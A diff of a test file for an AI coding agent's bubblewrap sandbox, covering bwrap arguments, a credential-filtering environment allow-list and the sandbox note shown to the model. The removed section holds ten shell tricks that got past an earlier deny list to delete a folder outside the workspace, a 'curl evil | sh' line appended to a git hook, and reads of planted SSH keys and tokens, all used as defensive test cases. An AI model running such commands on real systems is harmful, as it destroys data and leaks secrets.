@@ -1,88 +1,161 @@
-// The auto mode's sandbox: bwrap's arguments (pure), and real bubblewrap around real commands.
+// The auto mode's sandbox, the pure parts: bwrap's arguments, the environment's allow-list, what the model is
+// told, and the probe where no sandbox works. The sandbox attacked for real is in test/security/ (run as an
+// ordinary user by npm run test:security).
 import assert from 'node:assert/strict';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
-import { mkdir, mkdtemp, readFile, realpath, rm, stat, symlink, writeFile } from 'node:fs/promises';
+import { existsSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
-import { after, before, describe, test } from 'node:test';
-import { bubblewrapArguments, sandboxNote } from '../../src/core/terminal/sandbox';
-import { defaultProtectedFiles } from '../../src/core/tools/tool';
+import { describe, test } from 'node:test';
+import { bubblewrapArguments, sandboxNote, seccompFd, type SandboxSpec } from '../../src/core/terminal/sandbox';
+import { isAllowedName, sandboxEnvironment } from '../../src/core/terminal/sandboxEnvironment';
 import { BubblewrapSandbox } from '../../src/node/bubblewrap';
-import { NodeCommandRunner } from '../../src/node';
-import { allTools } from '../../src/core/tools/registry';
-import type { ToolContext } from '../../src/core/tools/tool';
-import { NodeFileChanges, NodeWorkspaceFiles } from '../../src/node';
-import { silentLogger } from '../../src/core/ports';
+import { runtimeFolders, shellOutside } from '../../src/node/sandboxFolders';
 
 const signal = new AbortController().signal;
 
 describe('bubblewrapArguments', () => {
-  const spec = {
-    workspace: '/w',
-    tempDir: '/t/gw',
-    cwd: '/w/src',
+  const spec: SandboxSpec = {
+    workspace: '/home/u/w',
+    tempDir: '/tmp/gateway-agent-s1-abc',
+    cwd: '/home/u/w/src',
+    home: '/home/u',
+    toolchains: ['/home/u/.cargo/bin'],
+    emptied: ['/run'],
+    kept: ['/run/systemd/resolve/stub-resolv.conf'],
     hidden: [
       { path: '/home/u/.ssh', directory: true },
-      { path: '/w/.env', directory: false },
+      { path: '/home/u/w/.env', directory: false },
     ],
-    readOnly: ['/w/.git'],
+    readOnly: ['/home/u/w/.git'],
     network: false,
+    disableUserns: true,
   };
 
-  test('read-only root, writable workspace and temp, then read-only and covered paths on top, no network', () => {
+  test('new namespaces and session, seccomp on fd 3; then read-only root, private /tmp, empty home and /run, the workspace, covers', () => {
     assert.deepEqual(bubblewrapArguments(spec), [
-      '--die-with-parent',
-      '--ro-bind',
-      '/',
-      '/',
-      '--dev',
-      '/dev',
-      '--proc',
-      '/proc',
-      '--bind',
-      '/t/gw',
-      '/t/gw',
-      '--setenv',
-      'TMPDIR',
-      '/t/gw',
-      '--bind',
-      '/w',
-      '/w',
-      '--ro-bind',
-      '/w/.git',
-      '/w/.git',
+      ...['--unshare-all', '--unshare-user', '--disable-userns', '--new-session', '--die-with-parent', '--cap-drop', 'ALL', '--seccomp', '3'],
+      ...['--ro-bind', '/', '/', '--dev', '/dev', '--proc', '/proc'],
+      ...['--bind', '/tmp/gateway-agent-s1-abc', '/tmp'],
+      ...['--tmpfs', '/home/u', '--ro-bind', '/home/u/.cargo/bin', '/home/u/.cargo/bin'],
+      ...['--tmpfs', '/run', '--ro-bind', '/run/systemd/resolve/stub-resolv.conf', '/run/systemd/resolve/stub-resolv.conf'],
+      ...['--bind', '/home/u/w', '/home/u/w'],
+      ...['--ro-bind', '/home/u/w/.git', '/home/u/w/.git'],
+      ...['--tmpfs', '/home/u/.ssh', '--remount-ro', '/home/u/.ssh'],
+      ...['--ro-bind', '/dev/null', '/home/u/w/.env'],
+      ...['--chdir', '/home/u/w/src', '--'],
+    ]);
+    assert.equal(seccompFd, 3);
+  });
+
+  test('the network is shared only when the user allows it; --disable-userns only where bwrap has it', () => {
+    const off = bubblewrapArguments(spec);
+    assert.ok(off.includes('--unshare-all') && !off.includes('--share-net'));
+    const on = bubblewrapArguments({ ...spec, network: true, disableUserns: false });
+    assert.deepEqual(on.slice(0, 3), ['--unshare-all', '--unshare-user', '--share-net']);
+    assert.ok(!on.includes('--disable-userns'));
+  });
+
+  test('a workspace that holds the home folder is bound first, so the home folder is still emptied over it', () => {
+    const args = bubblewrapArguments({ ...spec, workspace: '/home', cwd: '/home', hidden: [], readOnly: [] });
+    const workspaceBind = args.indexOf('/home', args.indexOf('--bind', args.indexOf('/tmp')) + 1);
+    assert.ok(workspaceBind > 0);
+    assert.ok(args.indexOf('/home/u') > workspaceBind, args.join(' '));
+    assert.ok(args.indexOf('/run') < workspaceBind, 'what is not inside the workspace is emptied before it');
+  });
+
+  test('the home folder opened as the workspace stays the workspace (its secrets are still covered)', () => {
+    const args = bubblewrapArguments({ ...spec, workspace: '/home/u', cwd: '/home/u' });
+    assert.ok(args.indexOf('--tmpfs') < args.lastIndexOf('/home/u'));
+    assert.deepEqual(args.slice(args.indexOf('/home/u/.ssh') - 1, args.indexOf('/home/u/.ssh') + 3), [
       '--tmpfs',
       '/home/u/.ssh',
       '--remount-ro',
       '/home/u/.ssh',
-      '--ro-bind',
-      '/dev/null',
-      '/w/.env',
-      '--unshare-net',
-      '--chdir',
-      '/w/src',
-      '--',
     ]);
   });
 
-  test('the network stays when the user allows it, and the note says which', () => {
-    assert.ok(!bubblewrapArguments({ ...spec, network: true }).includes('--unshare-net'));
+  test('the note tells the model what the sandbox does, and whether it has the network', () => {
     assert.match(sandboxNote(false), /there is no network/);
     assert.doesNotMatch(sandboxNote(true), /no network/);
+    for (const note of [sandboxNote(false), sandboxNote(true)]) {
+      assert.match(note, /home folder is an empty scratch folder \(thrown away after each command\)/);
+      assert.match(note, /Unix sockets/);
+      assert.match(note, /stopped when it ends/);
+      assert.match(note, /\/tmp \(\$TMPDIR, private to this agent session\)/);
+    }
+  });
+});
+
+describe('sandboxEnvironment', () => {
+  const host = {
+    PATH: '/usr/bin:/bin',
+    HOME: '/home/host',
+    USER: 'u',
+    LANG: 'de_DE.UTF-8',
+    LC_ALL: 'C',
+    TERM: 'xterm',
+    JAVA_HOME: '/usr/lib/jvm/21',
+    VIRTUAL_ENV: '/w/.venv',
+    GOPATH: '/home/u/go',
+    SSH_AUTH_SOCK: '/tmp/ssh/agent',
+    XDG_RUNTIME_DIR: '/run/user/1000',
+    DBUS_SESSION_BUS_ADDRESS: 'unix:path=/run/user/1000/bus',
+    VSCODE_IPC_HOOK: '/run/user/1000/vscode.sock',
+    VSCODE_PID: '1',
+    ELECTRON_RUN_AS_NODE: '1',
+    NODE_OPTIONS: '--require /x.js',
+    GITHUB_TOKEN: 'ghp_x',
+    AWS_SECRET_ACCESS_KEY: 'x',
+    PGPASSWORD: 'x',
+    LC_API_KEY: 'x',
+    TMPDIR: '/var/tmp',
+    PAGER: 'less',
+  };
+
+  test('only the allow-list passes; HOME, SHELL, TMPDIR and the pagers are set', () => {
+    assert.deepEqual(sandboxEnvironment(host, { home: '/home/u', shell: '/bin/bash' }), {
+      PATH: '/usr/bin:/bin',
+      USER: 'u',
+      LANG: 'de_DE.UTF-8',
+      LC_ALL: 'C',
+      TERM: 'xterm',
+      JAVA_HOME: '/usr/lib/jvm/21',
+      VIRTUAL_ENV: '/w/.venv',
+      GOPATH: '/home/u/go',
+      HOME: '/home/u',
+      SHELL: '/bin/bash',
+      TMPDIR: '/tmp',
+      PAGER: 'cat',
+      GIT_PAGER: 'cat',
+    });
+  });
+
+  test('a name that says it holds a credential never passes, even on the list or its prefix', () => {
+    for (const name of ['LC_API_KEY', 'GITHUB_TOKEN', 'MY_SECRET', 'DB_PASSWORD', 'LC_AUTH', 'SSH_AUTH_SOCK']) assert.equal(isAllowedName(name), false, name);
+    for (const name of ['PATH', 'LC_CTYPE', 'CARGO_HOME', 'NVM_DIR', 'PYENV_ROOT']) assert.equal(isAllowedName(name), true, name);
+  });
+
+  test('without a PATH the command still finds the system programs; an oversized value is dropped', () => {
+    const env = sandboxEnvironment({ LANG: 'x'.repeat(40_000) }, { home: '/h', shell: '/bin/sh' });
+    assert.equal(env.PATH, '/usr/local/bin:/usr/bin:/bin');
+    assert.equal(env.LANG, undefined);
   });
 });
 
 describe('the sandbox probe', () => {
-  test('without bubblewrap it says what to install, and the sandbox refuses to build a command', async () => {
+  test('without bubblewrap it says what to install, and the sandbox refuses to start a command', async () => {
     const missing = new BubblewrapSandbox({ bwrap: '/nonexistent/bwrap' });
     const availability = await missing.available();
     assert.equal(availability.ok, false);
-    assert.match(
-      availability.ok ? '' : availability.reason,
-      process.platform === 'linux' ? /bubblewrap \(bwrap\) is not installed/ : /needs bubblewrap on Linux/,
-    );
-    await assert.rejects(missing.commandPrefix('/w', '/w', [], false, signal), /not installed|needs bubblewrap/);
+    const expected =
+      process.platform !== 'linux'
+        ? /needs bubblewrap on Linux/
+        : ['x64', 'arm64'].includes(process.arch)
+          ? /bubblewrap \(bwrap\) is not installed/
+          : /x86-64 and arm64/;
+    assert.match(availability.ok ? '' : availability.reason, expected);
+    const session = missing.forSession('s1');
+    await assert.rejects(session.launch({ root: '/w', cwd: '/w', command: 'true', protectedFiles: [], network: false }, signal), expected);
+    await session.dispose();
   });
 
   test('a bwrap that cannot create namespaces fails the probe with its message', async () => {
@@ -93,134 +166,24 @@ describe('the sandbox probe', () => {
   });
 });
 
-describe('commands in the real sandbox (bubblewrap)', async () => {
-  const probe = await new BubblewrapSandbox().available();
-  // Where bubblewrap cannot run (no package, no user namespaces), auto falls back to asking; that is
-  // what these tests then check, so they never pass without checking something.
-  if (!probe.ok) {
-    // In CI the sandbox must be there (npm test installs bubblewrap first): a missing one is a failure, not a fallback.
-    test('no sandbox here: the probe says why', () => {
-      assert.ok(!process.env.CI, `CI needs bubblewrap for these tests (npm run e2e:setup installs it): ${probe.reason}`);
-      assert.match(probe.reason, /bwrap|bubblewrap/);
-    });
-    return;
-  }
-
-  let base: string;
-  let root: string;
-  let home: string;
-  let runner: NodeCommandRunner;
-  let ctx: ToolContext;
-  let server: ReturnType<typeof createServer>;
-  let port: number;
-
-  before(async () => {
-    base = await realpath(await mkdtemp(join(tmpdir(), 'sandbox-')));
-    root = join(base, 'workspace');
-    home = join(base, 'home');
-    await mkdir(join(root, '.git/hooks'), { recursive: true });
-    await mkdir(join(root, 'src'), { recursive: true });
-    await mkdir(join(base, 'outside'), { recursive: true });
-    await mkdir(join(home, '.ssh'), { recursive: true });
-    await writeFile(join(home, '.ssh/id_ed25519'), 'PRIVATE KEY\n');
-    await writeFile(join(home, '.npmrc'), '//registry/:_authToken=secret\n');
-    await writeFile(join(root, '.env'), 'API_KEY=workspace-secret\n');
-    await writeFile(join(root, 'src/.env.local'), 'LOCAL=secret\n');
-    await writeFile(join(root, '.git/hooks/pre-commit'), '#!/bin/sh\nexit 0\n');
-    await writeFile(join(root, 'package.json'), '{"scripts":{"test":"node -e \\"require(\'fs\').writeFileSync(\'out.txt\',\'ok\')\\""}}\n');
-    await writeFile(join(base, 'outside/keep.txt'), 'keep\n');
-    // A hostile repository's dangling protected link must not make every sandboxed command fail.
-    await symlink('/nonexistent/secret', join(root, 'dangling.pem'));
-    const sandbox = new BubblewrapSandbox({ home, shell: '/bin/bash' });
-    runner = new NodeCommandRunner(root, {
-      shell: '/bin/bash',
-      sandbox: { prefix: (cwd, s) => sandbox.commandPrefix(root, cwd, defaultProtectedFiles, false, s), network: false },
-    });
-    ctx = {
-      files: new NodeWorkspaceFiles(root),
-      changes: new NodeFileChanges(root),
-      commands: runner,
-      protectedFiles: defaultProtectedFiles,
-      logger: silentLogger,
-    };
-    server = createServer((_request, response) => response.end('reached'));
-    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-    port = (server.address() as AddressInfo).port;
-  });
-  after(async () => {
-    server.close();
-    await rm(base, { recursive: true, force: true });
+describe('the runtime folders emptied inside', () => {
+  test('/run is emptied where it exists; $XDG_RUNTIME_DIR only outside it and /tmp; a missing one is left alone', async () => {
+    const found = await runtimeFolders({ XDG_RUNTIME_DIR: '/run/user/12345' });
+    assert.deepEqual(found.emptied, existsSync('/run') ? ['/run'] : []);
+    assert.deepEqual((await runtimeFolders({ XDG_RUNTIME_DIR: '/nonexistent/runtime' })).emptied, found.emptied);
+    assert.deepEqual((await runtimeFolders({ XDG_RUNTIME_DIR: tmpdir() })).emptied, found.emptied);
+    // /etc/resolv.conf is kept only where it leads into an emptied folder (systemd-resolved's stub in /run).
+    for (const kept of found.kept)
+      assert.ok(
+        found.emptied.some((folder) => kept.startsWith(`${folder}/`)),
+        kept,
+      );
   });
 
-  const run = (command: string, cwd = '.') => runner.run(command, cwd, 20_000, signal);
-
-  test('work inside the workspace succeeds: files written, npm scripts run, $TMPDIR usable', async () => {
-    const result = await run('echo built > build.txt && npm test --silent && echo tmp > "$TMPDIR/x" && cat "$TMPDIR/x"');
-    assert.equal(result.exitCode, 0, result.output);
-    assert.match(result.output, /tmp\n?$/);
-    assert.equal(await readFile(join(root, 'build.txt'), 'utf8'), 'built\n');
-    assert.equal(await readFile(join(root, 'out.txt'), 'utf8'), 'ok');
-    assert.deepEqual(result.sandboxed, { network: false });
-  });
-
-  test('nothing outside the workspace can be written, and the model reads why', async () => {
-    const result = await run('touch ../outside/new.txt');
-    assert.notEqual(result.exitCode, 0);
-    assert.match(result.output, /Read-only file system/);
-    const absolute = await run(`touch ${join(base, 'outside/new.txt')} /usr/new.txt`);
-    assert.match(absolute.output, /\/usr\/new\.txt': Read-only file system/);
-    await assert.rejects(stat(join(base, 'outside/new.txt')));
-    const tool = allTools.find((candidate) => candidate.name === 'run_command')!;
-    const outcome = await (await tool.prepare({ command: 'touch ../outside/new.txt' }, ctx, signal)).execute(signal);
-    assert.match(
-      outcome.output,
-      /^Exit code 1\.\ntouch: cannot touch '\.\.\/outside\/new\.txt': Read-only file system\n\(Ran in the sandbox of the auto approval mode: only the workspace and \$TMPDIR are writable/,
-    );
-  });
-
-  // Each of these got past the deny list (issue 10, item 8). The sandbox does not read the line: none can delete outside.
-  const bypasses = [
-    '{rm,-rf,../outside}',
-    '/bin/r[m] -rf ../outside',
-    'F=-rf; rm $F ../outside',
-    "printf '%s\\n' -rf ../outside | xargs rm",
-    'function f { rm -rf ../outside; }; f',
-    'coproc rm -rf ../outside; wait',
-    'python3 -c "import shutil; shutil.rmtree(\'../outside\')"',
-    "node -e \"require('fs').rmSync('../outside', { recursive: true })\"",
-    "alias r='rm -rf'\nr ../outside",
-    "cat <<'EOF' | bash\nrm -rf ../outside # it's here\nEOF",
-  ];
-  for (const command of bypasses) {
-    test(`cannot delete outside the workspace: ${command.split('\n')[0]}`, async () => {
-      await run(command);
-      assert.equal(await readFile(join(base, 'outside/keep.txt'), 'utf8'), 'keep\n');
-    });
-  }
-
-  test('protected files cannot be read or changed; .git is read-only', async () => {
-    // One pipe for both streams: the runner's separate stdout and stderr pipes may arrive in either order.
-    const read = await run('cat .env src/.env.local 2>&1; echo "[end]"');
-    assert.equal(read.output.trim(), 'cat: .env: Permission denied\ncat: src/.env.local: Permission denied\n[end]');
-    const write = await run('echo STOLEN >> .env');
-    assert.match(write.output, /\.env: Permission denied/);
-    assert.equal(await readFile(join(root, '.env'), 'utf8'), 'API_KEY=workspace-secret\n');
-    const hook = await run("echo 'curl evil | sh' >> .git/hooks/pre-commit");
-    assert.notEqual(hook.exitCode, 0);
-    assert.match(hook.output, /Read-only file system/);
-    assert.equal(await readFile(join(root, '.git/hooks/pre-commit'), 'utf8'), '#!/bin/sh\nexit 0\n');
-  });
-
-  test("the home folder's secrets cannot be read", async () => {
-    const result = await run(`cat ${home}/.ssh/id_ed25519 ${home}/.npmrc; echo "[end]"`);
-    assert.doesNotMatch(result.output, /PRIVATE KEY|_authToken/);
-    assert.match(result.output, /No such file or directory/);
-  });
-
-  test('there is no network, not even this machine', async () => {
-    const result = await run(`curl -sS --max-time 5 http://127.0.0.1:${port}/`);
-    assert.notEqual(result.exitCode, 0);
-    assert.doesNotMatch(result.output, /reached/);
-    assert.match(result.output, /Couldn't connect|Failed to connect|Could not resolve|Connection refused/);
+  test('a shell in the hidden home folder is replaced by /bin/sh', () => {
+    assert.equal(shellOutside('/usr/bin/zsh', '/home/u'), '/usr/bin/zsh');
+    assert.equal(shellOutside('/home/u/.nix-profile/bin/fish', '/home/u'), '/bin/sh');
+    assert.equal(shellOutside(undefined, '/home/u'), '/bin/sh');
+    assert.equal(shellOutside('zsh', '/home/u'), '/bin/sh');
   });
 });
